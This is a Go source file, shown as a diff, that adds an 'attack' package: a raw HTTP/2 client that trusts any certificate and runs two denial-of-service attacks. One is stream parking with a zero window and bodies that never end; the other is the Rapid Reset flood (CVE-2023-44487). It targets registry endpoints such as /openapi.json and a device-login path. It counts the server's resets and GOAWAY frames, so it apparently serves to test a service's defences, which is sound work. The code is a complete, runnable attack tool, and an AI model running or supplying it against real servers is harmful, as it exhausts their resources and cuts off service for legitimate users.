@@ -1,0 +1,140 @@
+package attack
+
+import (
+	"bytes"
+	"crypto/tls"
+	"io"
+	"net"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// H2Conn is a raw HTTP/2 connection over TLS from an attacker's address: it opens streams as
+// it likes, whatever the server advertises, and grants the server no more window than it
+// was dialled with. It trusts any certificate, as an attacker does.
+type H2Conn struct {
+	conn net.Conn
+	fr   *http2.Framer
+	mu   sync.Mutex // serialises writes of frames
+	next uint32
+	hbuf bytes.Buffer
+	enc  *hpack.Encoder
+}
+
+// DialH2 connects from ip to addr (host:port) and sends the preface, offering window bytes
+// of flow-control window for each stream's answer.
+func DialH2(ip, addr string, window uint32) (*H2Conn, error) {
+	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
+	conn, err := tls.DialWithDialer(d, "tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
+	if err != nil {
+		return nil, err
+	}
+	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+		conn.Close()
+		return nil, err
+	}
+	c := &H2Conn{conn: conn, fr: http2.NewFramer(conn, conn), next: 1}
+	c.enc = hpack.NewEncoder(&c.hbuf)
+	if err := c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
+		conn.Close()
+		return nil, err
+	}
+	return c, nil
+}
+
+// Get starts a GET of path, its request complete, and returns the stream's id.
+func (c *H2Conn) Get(path string) (uint32, error) { return c.Request("GET", path, nil) }
+
+// Request starts a request; with a body, the body is sent and never ended.
+func (c *H2Conn) Request(method, path string, body []byte) (uint32, error) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	c.hbuf.Reset()
+	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "registry"}, {":path", path}} {
+		c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+	}
+	id := c.next
+	c.next += 2
+	err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndStream: body == nil, EndHeaders: true})
+	if err == nil && body != nil {
+		err = c.fr.WriteData(id, false, body)
+	}
+	return id, err
+}
+
+// Reset cancels stream id.
+func (c *H2Conn) Reset(id uint32) error {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
+}
+
+// Close closes the connection.
+func (c *H2Conn) Close() error { return c.conn.Close() }
+
+// Drain reads frames until the connection ends, acknowledging settings, counting the
+// streams the server reset and the GOAWAYs it sent, and calling onReset (when not nil) for
+// each reset stream.
+func (c *H2Conn) Drain(resets, goaways *atomic.Int64, onReset func()) {
+	for {
+		f, err := c.fr.ReadFrame()
+		if err != nil {
+			return
+		}
+		switch f := f.(type) {
+		case *http2.SettingsFrame:
+			if !f.IsAck() {
+				c.mu.Lock()
+				c.fr.WriteSettingsAck()
+				c.mu.Unlock()
+			}
+		case *http2.RSTStreamFrame:
+			resets.Add(1)
+			if onReset != nil {
+				onReset()
+			}
+		case *http2.GoAwayFrame:
+			goaways.Add(1)
+		}
+	}
+}
+
+// Park opens streams on c that the server can make no progress on: alternately a GET whose
+// answer the window of 0 holds back, and a POST whose 4 KB body never ends.
+func (c *H2Conn) Park(streams int) error {
+	for i := range streams {
+		var err error
+		if i%2 == 0 {
+			_, err = c.Get("/openapi.json")
+		} else {
+			_, err = c.Request("POST", "/v1/auth/device-login", make([]byte, 4096))
+		}
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// RapidReset opens streams on c and resets each at once, as fast as it can (CVE-2023-44487),
+// until stop is closed or the connection fails.
+func (c *H2Conn) RapidReset(stop <-chan struct{}) error {
+	for {
+		select {
+		case <-stop:
+			return nil
+		default:
+		}
+		id, err := c.Get("/openapi.json")
+		if err == nil {
+			err = c.Reset(id)
+		}
+		if err != nil {
+			return err
+		}
+	}
+}
